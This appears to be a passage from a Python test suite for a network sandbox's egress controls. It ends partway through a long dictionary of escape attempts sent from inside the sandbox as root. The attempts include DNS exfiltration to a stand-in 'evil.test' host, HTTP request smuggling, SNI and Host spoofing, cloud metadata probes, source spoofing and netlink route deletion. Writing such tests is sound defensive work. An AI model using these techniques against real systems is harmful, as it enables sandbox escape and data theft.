"""
Attempts to get out, run inside as root: one a name. Each sends `WORD` or asks for a name with it, and prints what happened.
The test shows for each that it gets out when its rule is not in the way (or that the way does not exist at all).
"""

import ctypes
import os
import socket
import ssl
import struct
import sys
import time

TARGET, TARGET6, ALLOWED, DNS = sys.argv[2:6]
WORD = b"leak-leak-leak"


def tcp(address, port, data=b"", family=None):
    family = family or (socket.AF_INET6 if ":" in address else socket.AF_INET)
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect((address, port))
        s.sendall(data)
        return s.recv(4096)


def tell_errors(s):
    """A refusal is told at once, also to a socket that is not connected."""
    s.setsockopt(*((socket.IPPROTO_IPV6, 25, 1) if s.family == socket.AF_INET6 else (socket.IPPROTO_IP, 11, 1)))


def udp(address, port, data=WORD, options=()):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        tell_errors(s)
        for o in options:
            s.setsockopt(*o)
        s.sendto(data, (address, port))
        return s.recv(4096)


def raw(family, proto):
    with socket.socket(family, socket.SOCK_RAW, proto) as s:
        s.sendto(WORD * 3, (TARGET if family == socket.AF_INET else TARGET6, 0))


def http(host, extra="", target="/", method="GET", lines=None):
    return (f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n" if lines is None else lines).encode()


def hello(sni, pieces=0, ech=False, twice=False, kind=0, listed=(), version=b"\3\1", alpn=b""):
    """A ClientHello by hand, so that it can be wrong."""
    name = sni if isinstance(sni, bytes) else sni.encode()
    entry = bytes([kind]) + struct.pack("!H", len(name)) + name
    entry += b"".join(b"\0" + struct.pack("!H", len(n)) + n for n in listed)
    ext = struct.pack("!HHH", 0, len(entry) + 2, len(entry)) + entry
    if twice:
        other = b"allowed.test"
        entry = b"\0" + struct.pack("!H", len(other)) + other
        ext += struct.pack("!HHH", 0, len(entry) + 2, len(entry)) + entry
    if ech:
        ext += struct.pack("!HH", 0xfe0d, 8) + b"\0" * 8
    if alpn:
        ext += struct.pack("!HHHB", 16, len(alpn) + 3, len(alpn) + 1, len(alpn)) + alpn
    body = b"\3\3" + b"r" * 32 + b"\0" + b"\0\2\x13\x01" + b"\1\0" + struct.pack("!H", len(ext)) + ext
    message = b"\1" + struct.pack("!I", len(body))[1:] + body
    if pieces:
        return b"".join(b"\x16\3\1" + struct.pack("!H", len(message[i:i + pieces])) + message[i:i + pieces]
                        for i in range(0, len(message), pieces))
    return b"\x16" + version + struct.pack("!H", len(message)) + message


def query(name, kind=1, flags=0x100, count=1):
    labels = b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\0"
    return struct.pack("!HHHHHH", 7, flags, count, 0, 0, 0) + labels + struct.pack("!HH", kind, 1)


def pipelined(first, second):
    with socket.create_connection(("allowed.test", 80), 3) as s:
        s.sendall(first + second)
        out = b""
        s.settimeout(2)
        try:
            while data := s.recv(65536):
                out += data
        except OSError:
            pass
        return out


def spoofed():
    with socket.socket() as s:
        s.bind((ALLOWED, 0))
        s.settimeout(3)
        s.connect((TARGET, 80))
        s.sendall(http("evil.test"))
        return s.recv(100)


def option(level, name, value):
    with socket.socket() as s:
        s.setsockopt(level, name, value)
        s.settimeout(3)
        s.connect((TARGET, 80))
        s.sendall(http("evil.test"))
        return s.recv(100)


def transparent():
    with socket.socket() as s:
        s.setsockopt(socket.IPPROTO_IP, 19, 1)


def namespaces():
    if ctypes.CDLL(None, use_errno=True).unshare(0x40000000) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    return tcp(TARGET, 80, http("evil.test"))


def netlink(protocol):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as s:
        # RTM_DELROUTE of the local default; NFT: delete the table
        s.send(struct.pack("=IHHII", 28, 25, 5, 1, 0) + struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 0, 0, 0, 0))
        kind, = struct.unpack("=i", s.recv(4096)[16:20])
        if kind < 0:
            raise OSError(-kind, "netlink")


def many_heads():
    return pipelined(http("allowed.test"), http("evil.test"))


def quic(name):
    """A long header of version 1, of the size of a first datagram; the name in the clear, which is more than a real one shows."""
    return b"\xc3\0\0\0\1\x08connecti\0\0\x44\xd0" + hello(name) + b"\0" * 1100


def datagram(address, port, options=(), control=(), connected=False, flags=0, bind=None, data=WORD):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        tell_errors(s)
        for o in options:
            s.setsockopt(*o)
        if bind:
            s.bind(bind)
        if connected:
            s.connect((address, port))
            s.send(data, flags)
            s.send(data, flags)         # tells what became of the first
        else:
            s.sendmsg([data], control, flags, (address, port))
        return s.recv(4096)


def slowly(address, port, data):
    with socket.create_connection((address, port), 3) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(len(data)):
            s.sendall(data[i:i + 1])
        s.settimeout(3)
        return s.recv(4096)


def six_option(name, value):
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
        s.setsockopt(socket.IPPROTO_IPV6, name, value)
        s.settimeout(3)
        s.connect((TARGET6, 80))
        s.sendall(http("evil.test"))
        return s.recv(100)


def family(number, kind=socket.SOCK_DGRAM, protocol=0):
    with socket.socket(number, kind, protocol):
        return "a socket of family %d" % number


def ioctl(request, data):
    import fcntl
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return fcntl.ioctl(s, request, data)


def header(protocol, payload=WORD * 2):
    return (b"\x45\0" + struct.pack("!H", 20 + len(payload)) + b"\0\1\0\0\x40" + bytes([protocol]) + b"\0\0"
            + socket.inet_aton("192.0.2.2") + socket.inet_aton(TARGET) + payload)


def crafted(family):
    with socket.socket(family, socket.SOCK_RAW, 255) as s:
        if family == socket.AF_INET:
            return s.sendto(header(17, b"\x27\x0f\x27\x0f\0\x16\0\0" + WORD), (TARGET, 0))
        return s.sendto(b"\x60\0\0\0\0\x16\x11\x40" + socket.inet_pton(family, "fd71:7569:636b::2")
                        + socket.inet_pton(family, TARGET6) + b"\x27\x0f\x27\x0f\0\x16\0\0" + WORD, (TARGET6, 0))


def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3) as s:
        s.bind((os.environ.get("DEVICE", "lo"), 0))
        return s.send(b"\xff" * 12 + b"\x08\0" + header(17))


def packet_dgram():
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as s:
        return s.sendto(header(17), (os.environ.get("DEVICE", "lo"), 0x0800))


def tun():
    import fcntl
    with open("/dev/net/tun", "r+b", buffering=0) as f:
        return fcntl.ioctl(f, 0x400454ca, struct.pack("16sH22x", b"tun7", 0x1001))


def group():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("239.7.7.7") + socket.inet_aton("0.0.0.0"))
        return datagram("239.7.7.7", 9999)


def unix(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as s:
        s.connect(path)
        return "connected"


def answer_as(address):
    """A program of the sandbox takes a foreign address for its own and answers in its name; a second one believes it only if packets to
    there come to it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        server.setsockopt(socket.IPPROTO_IP, 15, 1)
        server.bind((address, 9999))
        client.settimeout(1)
        server.settimeout(1)
        client.sendto(WORD, (address, 9999))
        return server.recv(100)


ATTEMPTS = {
    # plain connections elsewhere
    "tcp-80": lambda: tcp(TARGET, 80, http("evil.test")),
    "tcp-8080": lambda: tcp(TARGET, 8080, http("evil.test")),
    "tcp-9999": lambda: tcp(TARGET, 9999, WORD),
    "tcp-22": lambda: tcp(TARGET, 22),
    "tcp-25": lambda: tcp(TARGET, 25),
    "tcp6-80": lambda: tcp(TARGET6, 80, http("evil.test")),
    "mapped": lambda: tcp("::ffff:" + TARGET, 80, http("evil.test"), socket.AF_INET6),
    "nat64": lambda: tcp("64:ff9b::c661:be35", 80, http("evil.test")),
    "6to4": lambda: tcp("2002:c661:be35::1", 80, http("evil.test")),
    "link-local": lambda: tcp("fe80::1%lo", 80, http("evil.test")),
    "metadata": lambda: tcp("169.254.169.254", 80, http("169.254.169.254")),
    "metadata-mapped": lambda: tcp("::ffff:169.254.169.254", 80, http("allowed.test.evil.test"), socket.AF_INET6),
    "broadcast": lambda: udp("255.255.255.255", 9999, options=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)]),
    "own-port": lambda: tcp("127.0.0.1", 61753, http("evil.test")),
    "own-port6": lambda: tcp("::1", 61753, http("evil.test")),
    "own-port-self": lambda: tcp("192.0.2.2", 61753, http("evil.test")),
    "socks4": lambda: tcp(TARGET, 1080, b"\4\1\0\x50" + socket.inet_aton(TARGET) + b"\0"),
    "socks5": lambda: tcp("192.0.2.2", 1080, b"\5\1\0"),
    "own-port-foreign": lambda: tcp(TARGET, 61753, http("evil.test")),
    "own-port-foreign-udp": lambda: datagram(TARGET, 61753),
    "own-port-foreign-six": lambda: tcp(TARGET6, 61753, http("evil.test")),
    "resolver-dot": lambda: tcp("192.0.2.53", 853, hello("dns.evil.test")),
    "resolver-doh": lambda: tcp("192.0.2.53", 443, hello("dns.evil.test")),
    "resolver-udp-port": lambda: datagram("192.0.2.53", 5353),
    "zero": lambda: tcp("0.0.0.0", 8099, http("evil.test")),
    "this-net": lambda: tcp("0.1.2.3", 80, http("evil.test")),
    "loopback-far": lambda: tcp("127.9.9.9", 8099, http("evil.test")),
    "reserved": lambda: tcp("240.0.0.1", 80, http("evil.test")),
    "private-10": lambda: tcp("10.9.8.7", 80, http("evil.test")),
    "private-192": lambda: tcp("192.168.77.7", 80, http("evil.test")),
    "private-shared": lambda: tcp("100.64.0.9", 80, http("evil.test")),
    "unique-local": lambda: tcp("fd00:ec2::254", 80, http("evil.test")),
    "teredo": lambda: tcp("2001:0:c661:be35::1", 80, http("evil.test")),
    "compatible": lambda: tcp("::c661:be35", 80, http("evil.test")),
    "own-port-udp": lambda: udp("127.0.0.1", 61753, query(b"leak.evil.test")),
    "resolver-tcp": lambda: tcp("192.0.2.53", 53, b"\0\x20" + query(b"leak.evil.test")),
    "resolver-http": lambda: tcp("192.0.2.53", 80, http("evil.test")),
    # names that are not what they seem
    "sni": lambda: tcp(TARGET, 443, hello("evil.test")),
    "sni-fragments": lambda: tcp(TARGET, 443, hello("evil.test", pieces=7)),
    "sni-twice": lambda: tcp(TARGET, 443, hello("evil.test", twice=True)),
    "sni-nul": lambda: tcp(TARGET, 443, hello(b"allowed.test\0.evil.test")),
    "sni-address": lambda: tcp(TARGET, 443, hello(TARGET)),
    "sni-space": lambda: tcp(TARGET, 443, hello(b" allowed.test")),
    "sni-wild": lambda: tcp(TARGET, 443, hello(b"*.wild.test")),
    "sni-empty-label": lambda: tcp(TARGET, 443, hello(b"evil.test..wild.test")),
    "sni-suffix": lambda: tcp(TARGET, 443, hello("notallowed.test")),
    "sni-prefix": lambda: tcp(TARGET, 443, hello("allowed.test.evil.test")),
    "sni-ech": lambda: tcp(TARGET, 443, hello("evil.test", ech=True)),
    "sni-ech-outer": lambda: tcp(TARGET, 443, hello("allowed.test", ech=True)),
    "sni-none": lambda: tcp(TARGET, 443, b"\x16\3\1\0\x2d\1\0\0\x29\3\3" + b"r" * 32 + b"\0\0\2\x13\x01\1\0"),
    "sni-upper": lambda: tcp(TARGET, 443, hello("EVIL.TEST")),
    "sni-dot": lambda: tcp(TARGET, 443, hello("evil.test.")),
    "sni-dots": lambda: tcp(TARGET, 443, hello("allowed.test..")),
    "sni-empty": lambda: tcp(TARGET, 443, hello("")),
    "sni-six": lambda: tcp(TARGET6, 443, hello(TARGET6)),
    "sni-brackets": lambda: tcp(TARGET6, 443, hello(f"[{TARGET6}]")),
    "sni-number": lambda: tcp(TARGET, 443, hello("3328294453")),
    "sni-port": lambda: tcp(TARGET, 443, hello("allowed.test:443")),
    "sni-at": lambda: tcp(TARGET, 443, hello("allowed.test@evil.test")),
    "sni-slash": lambda: tcp(TARGET, 443, hello("allowed.test/evil.test")),
    "sni-utf8": lambda: tcp(TARGET, 443, hello("\u0430llowed.test".encode())),
    "sni-punycode": lambda: tcp(TARGET, 443, hello("xn--llowed-2nf.test")),
    "sni-long": lambda: tcp(TARGET, 443, hello("a." * 150 + "allowed.test")),
    "sni-label-long": lambda: tcp(TARGET, 443, hello("a" * 64 + ".wild.test")),
    "sni-other-kind": lambda: tcp(TARGET, 443, hello("allowed.test", kind=1)),
    "sni-list": lambda: tcp(TARGET, 443, hello("allowed.test", listed=[b"evil.test"])),
    "sni-list-turned": lambda: tcp(TARGET, 443, hello("evil.test", listed=[b"allowed.test"])),
    "sni-slow": lambda: slowly(TARGET, 443, hello("evil.test")),
    "sni-version": lambda: tcp(TARGET, 443, hello("evil.test", version=b"\3\0")),
    "sni-after-alert": lambda: tcp(TARGET, 443, b"\x15\3\1\0\2\1\0" + hello("evil.test")),
    "sni-two-hellos": lambda: tcp(TARGET, 443, hello("evil.test") + hello("allowed.test")),
    "sni-h2": lambda: tcp(TARGET, 443, hello("evil.test", alpn=b"h2")),
    "sni-odd-port": lambda: tcp(TARGET, 8443, hello("evil.test")),
    "sni-on-80": lambda: tcp(TARGET, 80, hello("evil.test")),
    "sni-on-22": lambda: tcp(TARGET, 22, hello("evil.test")),
    "http-on-443": lambda: tcp(TARGET, 443, http("evil.test")),
    "http-on-9999": lambda: tcp(TARGET, 9999, http("evil.test")),
    "ssl2": lambda: tcp(TARGET, 443, b"\x80\x2e\x01\x03\x01" + b"x" * 41),
    "not-tls": lambda: tcp(TARGET, 443, WORD),
    "half-hello": lambda: tcp(TARGET, 443, hello("allowed.test")[:20]),
    "host": lambda: tcp(TARGET, 80, http("evil.test")),
    "host-twice": lambda: tcp(TARGET, 80, http("allowed.test", "Host: evil.test\r\n")),
    "host-twice-turned": lambda: tcp(TARGET, 80, http("evil.test", "Host: allowed.test\r\n")),
    "host-absolute": lambda: tcp(TARGET, 80, http("allowed.test", target="http://evil.test/")),
    "host-absolute-turned": lambda: tcp(TARGET, 80, http("evil.test", target="http://allowed.test/")),
    "host-user": lambda: tcp(TARGET, 80, http("allowed.test", target="http://allowed.test@evil.test/")),
    "host-none": lambda: tcp(TARGET, 80, b"GET / HTTP/1.1\r\n\r\n"),
    "host-10": lambda: tcp(TARGET, 80, b"GET / HTTP/1.0\r\n\r\n"),
    "host-folded": lambda: tcp(TARGET, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n evil.test\r\n\r\n"),
    "host-space": lambda: tcp(TARGET, 80, b"GET / HTTP/1.1\r\nHost : evil.test\r\nHost: allowed.test\r\n\r\n"),
    "host-bare-lf": lambda: tcp(TARGET, 80, b"GET / HTTP/1.1\nHost: evil.test\n\n"),
    "host-nul": lambda: tcp(TARGET, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\0evil.test\r\n\r\n"),
    "host-address": lambda: tcp(TARGET, 80, http(TARGET)),
    "host-number": lambda: tcp(TARGET, 80, http("3328294453")),
    "host-hex": lambda: tcp(TARGET, 80, http("0xc6.0x61.0xbe.0x35")),
    "host-six": lambda: tcp(TARGET6, 80, http(f"[{TARGET6}]")),
    "host-upper": lambda: tcp(TARGET, 80, http("EVIL.TEST")),
    "host-dot": lambda: tcp(TARGET, 80, http("evil.test.")),
    "host-dots": lambda: tcp(TARGET, 80, http("allowed.test..")),
    "host-punycode": lambda: tcp(TARGET, 80, http("xn--llowed-2nf.test")),
    "host-utf8": lambda: tcp(TARGET, 80, http("\u0430llowed.test")),
    "host-percent": lambda: tcp(TARGET, 80, http("allowed.test%2eevil.test")),
    "host-comma": lambda: tcp(TARGET, 80, http("allowed.test, evil.test")),
    "host-tab": lambda: tcp(TARGET, 80, http("allowed.test\tevil.test")),
    "host-at": lambda: tcp(TARGET, 80, http("allowed.test@evil.test")),
    "host-port": lambda: tcp(TARGET, 80, http("allowed.test:80@evil.test")),
    "host-slash": lambda: tcp(TARGET, 80, http("allowed.test/.evil.test")),
    "host-empty": lambda: tcp(TARGET, 80, http("")),
    "host-suffix": lambda: tcp(TARGET, 80, http("notallowed.test")),
    "host-prefix": lambda: tcp(TARGET, 80, http("allowed.test.evil.test")),
    "host-fragment": lambda: tcp(TARGET, 80, http("allowed.test", target="http://allowed.test#@evil.test/")),
    "host-backslash": lambda: tcp(TARGET, 80, http("allowed.test", target="http://allowed.test\\@evil.test/")),
    "host-scheme": lambda: tcp(TARGET, 80, http("allowed.test", target="https://evil.test/")),
    "host-forwarded": lambda: tcp(TARGET, 80, http("evil.test", "X-Forwarded-Host: allowed.test\r\n")),
    "host-star": lambda: tcp(TARGET, 80, http("evil.test", target="*", method="OPTIONS")),
    "host-method": lambda: tcp(TARGET, 80, http("evil.test", method="PROPFIND")),
    "host-slow": lambda: slowly(TARGET, 80, http("evil.test")),
    "host-09": lambda: tcp(TARGET, 80, b"GET /\r\n"),
    "host-crlf-before": lambda: tcp(TARGET, 80, b"\r\n\r\n" + http("evil.test")),
    "h2c-upgrade": lambda: tcp(TARGET, 80, http("evil.test", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAM\r\n")),
    "h2-authority": lambda: tcp(TARGET, 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"
                                + b"\0\0\x0e\1\5\0\0\0\1\x82\x84\x86\x41\x09evil.test"),
    "proxy-request": lambda: tcp(TARGET, 8080, http("evil.test", target="http://evil.test/")),
    "connect-evil": lambda: tcp(TARGET, 80, http("evil.test:443", target="evil.test:443", method="CONNECT")),
    "connect": lambda: tcp(ALLOWED, 80, http("allowed.test", target="evil.test:80", method="CONNECT")),
    "connect-allowed": lambda: tcp(ALLOWED, 80, http("allowed.test:443", target="allowed.test:443", method="CONNECT")),
    "h2-prior": lambda: tcp(TARGET, 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"),
    "second-request": many_heads,
    "second-body": lambda: pipelined(http("allowed.test", "Content-Length: 4\r\n") + b"abcd", http("evil.test")),
    "smuggled-both": lambda: pipelined(http("allowed.test", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n"),
                                       b"0\r\n\r\n" + http("evil.test")),
    "smuggled-te": lambda: pipelined(http("allowed.test", "Transfer-Encoding: chunked, identity\r\n"), b"0\r\n\r\n" + http("evil.test")),
    "smuggled-length": lambda: pipelined(http("allowed.test", "Content-Length: 4\r\nContent-Length: 5\r\n"), http("evil.test")),
    "smuggled-plus": lambda: pipelined(http("allowed.test", "Content-Length: +4\r\n"), http("evil.test")),
    "smuggled-chunk": lambda: pipelined(http("allowed.test", "Transfer-Encoding: chunked\r\n"), b"0x1\r\na\r\n0\r\n\r\n" + http("evil.test")),
    "websocket-second": lambda: pipelined(http("allowed.test"), http("evil.test", "Upgrade: websocket\r\nConnection: Upgrade\r\n")),
    # names as messages
    "dns": lambda: socket.getaddrinfo("leak.evil.test", 80),
    "dns-direct": lambda: udp(DNS, 53, query(b"leak.evil.test")),
    "dns-direct-tcp": lambda: tcp(DNS, 53, b"\0\x20" + query(b"leak.evil.test")),
    "dns-public": lambda: udp("8.8.8.8", 53, query(b"leak.evil.test")),
    "dns-six": lambda: udp("2001:4860:4860::8888", 53, query(b"leak.evil.test")),
    "dns-txt": lambda: udp("192.0.2.53", 53, query(b"leak.evil.test", 16)),
    "dns-txt-allowed": lambda: udp("192.0.2.53", 53, query(b"leak.allowed.test", 16)),
    "dns-any": lambda: udp("192.0.2.53", 53, query(b"leak.wild.test", 255)),
    "dns-ptr": lambda: udp("192.0.2.53", 53, query(b"1.0.0.10.in-addr.arpa", 12)),
    "dns-two": lambda: udp("192.0.2.53", 53, query(b"allowed.test", count=2) + query(b"leak.evil.test")[12:]),
    "dns-upper": lambda: udp("192.0.2.53", 53, query(b"LEAK.EVIL.TEST")),
    "dns-long": lambda: udp("192.0.2.53", 53, query(b".".join([b"x" * 60] * 3) + b".wild.test")),
    "dns-update": lambda: udp("192.0.2.53", 53, query(b"leak.wild.test", flags=0x2800)),
    "dns-dot-label": lambda: udp("192.0.2.53", 53, query(b"leak.evil.test").replace(b"\4leak\4evil", b"\x09leak.evil")),
    "dns-edns": lambda: udp("192.0.2.53", 53, query(b"leak.evil.test")[:10] + b"\0\1" + query(b"leak.evil.test")[12:]
                            + b"\0\0\x29\x04\xd0\0\0\0\0\0\x08\0\x08\0\4leak"),
    "dns-cname": lambda: udp("192.0.2.53", 53, query(b"leak.evil.test", 5)),
    "dns-https": lambda: udp("192.0.2.53", 53, query(b"leak.evil.test", 65)),
    "dns-axfr": lambda: tcp("192.0.2.53", 53, b"\0\x20" + query(b"leak.evil.test", 252)),
    "dns-chaos": lambda: udp("192.0.2.53", 53, query(b"leak.evil.test")[:-2] + b"\0\3"),
    "dns-tcp-two": lambda: tcp("192.0.2.53", 53, (b"\0\x20" + query(b"leak.evil.test")) * 2),
    "dns-notify": lambda: udp("192.0.2.53", 53, query(b"leak.wild.test", flags=0x2000)),
    "dns-response": lambda: udp("192.0.2.53", 53, query(b"leak.wild.test", flags=0x8180)),
    "dns-suffix": lambda: udp("192.0.2.53", 53, query(b"leak.notallowed.test")),
    "dns-port-5353": lambda: udp(DNS, 5353, query(b"leak.evil.test")),
    "dns-public-tcp": lambda: tcp("8.8.8.8", 53, b"\0\x20" + query(b"leak.evil.test")),
    "doq": lambda: datagram(TARGET, 853, data=quic("dns.evil.test")),
    "llmnr": lambda: udp("224.0.0.252", 5355, query(b"leak.evil.test")),
    "ssdp": lambda: udp("239.255.255.250", 1900, b"M-SEARCH * HTTP/1.1\r\n\r\n"),
    "mdns": lambda: udp("224.0.0.251", 5353, query(b"leak.evil.test")),
    "mdns6": lambda: udp("ff02::fb%lo", 5353, query(b"leak.evil.test")),
    "dot": lambda: tcp(DNS, 853, hello("dns.evil.test")),
    "doh": lambda: tcp(TARGET, 443, hello("dns.evil.test")),
    # other protocols
    "udp-443": lambda: udp(TARGET, 443),
    "udp-123": lambda: udp(TARGET, 123),
    "udp-9999": lambda: udp(TARGET, 9999),
    "udp-allowed": lambda: udp(ALLOWED, 443),
    "udp6": lambda: udp(TARGET6, 443),
    "quic": lambda: datagram(TARGET, 443, data=quic("evil.test")),
    "quic-allowed": lambda: datagram(ALLOWED, 443, data=quic("allowed.test")),
    "quic-six": lambda: datagram(TARGET6, 443, data=quic("evil.test")),
    "udp-connected": lambda: datagram(TARGET, 9999, connected=True),
    "udp-mapped": lambda: datagram("::ffff:" + TARGET, 9999),
    "udp-metadata": lambda: datagram("169.254.169.254", 80),
    "udp-private": lambda: datagram("10.9.8.7", 9999),
    "udp-stun": lambda: datagram(TARGET, 3478, data=b"\0\1\0\0\x21\x12\xa4\x42" + b"t" * 12),
    "udp-large": lambda: datagram(TARGET, 9999, data=b"x" * 60000),
    "udp-empty": lambda: datagram(TARGET, 9999, data=b""),
    "udp-segments": lambda: datagram(TARGET, 9999, data=b"x" * 3000, options=[(17, 103, 1000)]),
    "udp-no-checksum": lambda: datagram(TARGET, 9999, options=[(socket.SOL_SOCKET, 11, 1)]),
    "udp-source": lambda: datagram(TARGET, 9999, bind=(ALLOWED, 0), options=[(socket.IPPROTO_IP, 15, 1)]),
    "udp-source-loopback": lambda: datagram(TARGET, 9999, bind=("127.0.0.1", 0)),
    "udp-source-port": lambda: datagram(TARGET, 9999, bind=("0.0.0.0", 53)),
    "udp-packet-info": lambda: datagram(TARGET, 9999, control=[(0, 8, struct.pack("=i", 1) + socket.inet_aton(ALLOWED) + b"\0" * 4)]),
    "udp-device": lambda: datagram(TARGET, 9999, options=[(socket.SOL_SOCKET, 25, b"lo\0")]),
    "udp-encap": lambda: datagram(TARGET, 4500, options=[(17, 100, 2)]),
    "udp-source-route": lambda: datagram(TARGET, 9999, options=[(0, 4, b"\x83\x07\x04" + socket.inet_aton(TARGET) + b"\0")]),
    "udp-ttl": lambda: datagram(TARGET, 33434, options=[(0, 2, 1)]),
    "udp-reserved": lambda: datagram("240.0.0.1", 9999),
    "dhcp": lambda: datagram("255.255.255.255", 67, options=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)], bind=("0.0.0.0", 68)),
    "multicast": lambda: datagram("239.1.2.3", 9999, options=[(0, 33, 32)]),
    "multicast-six": lambda: datagram("ff0e::7", 9999),
    "igmp": group,
    "answer-as": lambda: answer_as("203.0.114.9"),
    "icmp": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"\x08\0\0\0\0\1\0\1" + WORD, (TARGET, 0)),
    "icmp6": lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58).sendto(b"\x80\0\0\0\0\1\0\1" + WORD, (TARGET6, 0)),
    "raw-tcp": lambda: raw(socket.AF_INET, 6),
    "raw-gre": lambda: raw(socket.AF_INET, 47),
    "raw-any": lambda: raw(socket.AF_INET, 255),
    "raw6": lambda: raw(socket.AF_INET6, 58),
    "packet": packet,
    "raw-udp": lambda: raw(socket.AF_INET, 17),
    "raw-icmp": lambda: raw(socket.AF_INET, 1),
    "raw-ipip": lambda: raw(socket.AF_INET, 4),
    "raw-sit": lambda: raw(socket.AF_INET, 41),
    "raw-esp": lambda: raw(socket.AF_INET, 50),
    "raw-ospf": lambda: raw(socket.AF_INET, 89),
    "raw-crafted": lambda: crafted(socket.AF_INET),
    "raw6-crafted": lambda: crafted(socket.AF_INET6),
    "raw6-udp": lambda: raw(socket.AF_INET6, 17),
    "raw6-none": lambda: raw(socket.AF_INET6, 59),
    "packet-dgram": packet_dgram,
    "packet-all": lambda: family(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
    "xdp": lambda: family(44, socket.SOCK_RAW),
    "tun": tun,
    "six-hops": lambda: six_option(54, b"\0\0\1\4\0\0\0\0"),
    "six-destination": lambda: six_option(59, b"\0\0\1\4\0\0\0\0"),
    "six-destination-first": lambda: six_option(55, b"\0\0\1\4\0\0\0\0"),
    "six-route-0": lambda: six_option(57, b"\0\2\0\1\0\0\0\0" + socket.inet_pton(socket.AF_INET6, TARGET6)),
    "six-route-2": lambda: six_option(57, b"\0\2\2\1\0\0\0\0" + socket.inet_pton(socket.AF_INET6, TARGET6)),
    "six-route-4": lambda: six_option(57, b"\0\2\4\0\0\0\0\0" + socket.inet_pton(socket.AF_INET6, TARGET6)),
    "six-header-included": lambda: six_option(36, 1),
    "tipc": lambda: family(30), "rds": lambda: family(21, socket.SOCK_SEQPACKET), "smc": lambda: family(43, socket.SOCK_STREAM),
    "bluetooth": lambda: family(31, socket.SOCK_RAW, 1), "can": lambda: family(29, socket.SOCK_RAW, 1), "x25": lambda: family(9, 5),
    "l2tp": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 115).sendto(WORD, (TARGET, 0)),
    "key": lambda: family(15, socket.SOCK_RAW, 2), "nfc": lambda: family(39), "mctp": lambda: family(45), "qrtr": lambda: family(42),
    "appletalk": lambda: family(5), "ieee802154": lambda: family(36), "kcm": lambda: family(41), "ppp": lambda: family(24),
    "sctp": lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect((TARGET, 80)),
    "sctp-one": lambda: socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132).connect((TARGET, 80)),
    "udplite": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(WORD, (TARGET, 9999)),
    "mptcp": lambda: tcp_on(socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)),
    "dccp": lambda: socket.socket(socket.AF_INET, 6, 33).connect((TARGET, 80)),
    "vsock": lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 80)),
    "fast-open": lambda: socket.socket().sendto(http("evil.test"), 0x20000000, (TARGET, 80)),
    "unix-node": lambda: unix("/run/quicksand/node.sock"),
    "unix-egress": lambda: unix("/run/quicksand/egress.sock"),
    "unix-monitor": lambda: unix("/proc/1/root/run/quicksand/monitor.sock"),
    "unix-journal": lambda: unix("/run/systemd/journal/socket"),
    "unix-abstract": lambda: socket.socket(socket.AF_UNIX).connect("\0quicksand-test-abstract"),
    # the construction itself
    "source-address": spoofed,
    "mark": lambda: option(socket.SOL_SOCKET, 36, 0x5153),
    "device": lambda: option(socket.SOL_SOCKET, 25, b"out0\0"),
    "source-route": lambda: option(socket.IPPROTO_IP, 4, b"\x83\x07\x04" + socket.inet_aton(TARGET) + b"\0"),
    "transparent": transparent,
    "new-namespace": namespaces,
    "source-route-strict": lambda: option(socket.IPPROTO_IP, 4, b"\x89\x07\x04" + socket.inet_aton(TARGET) + b"\0"),
    "record-route": lambda: option(socket.IPPROTO_IP, 4, b"\x07\x07\x04\0\0\0\0\0"),
    "timestamps": lambda: option(socket.IPPROTO_IP, 4, b"\x44\x0c\x05\1" + b"\0" * 8),
    "device-lo": lambda: option(socket.SOL_SOCKET, 25, b"lo\0"),
    "priority": lambda: option(socket.SOL_SOCKET, 12, 6),
    "new-address": lambda: ioctl(0x8916, struct.pack("16sHH4s8x", b"lo", 2, 0, socket.inet_aton(TARGET))),
    "new-route": lambda: ioctl(0x890b, b"\0" * 120),
    "flags": lambda: ioctl(0x8914, struct.pack("16sH14x", b"lo", 0)),
    "neighbours": lambda: ioctl(0x8955, b"\0" * 68),
    "bridge": lambda: ioctl(0x89a0, b"br7\0".ljust(16, b"\0")),
    "vlan": lambda: ioctl(0x8983, b"\0" * 40),
    "sysctl-six": lambda: open("/proc/sys/net/ipv6/conf/all/forwarding", "w").write("1"),
